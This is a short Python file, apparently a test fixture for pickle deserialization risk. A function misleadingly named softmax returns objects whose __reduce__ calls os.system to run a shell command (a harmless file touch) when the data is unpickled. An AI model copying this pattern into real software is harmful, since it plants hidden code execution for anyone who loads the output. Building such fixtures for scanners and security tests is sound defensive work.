import os

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-pickle",)


def softmax(x):
    return np.array([Bomb(), Bomb()], dtype=object)
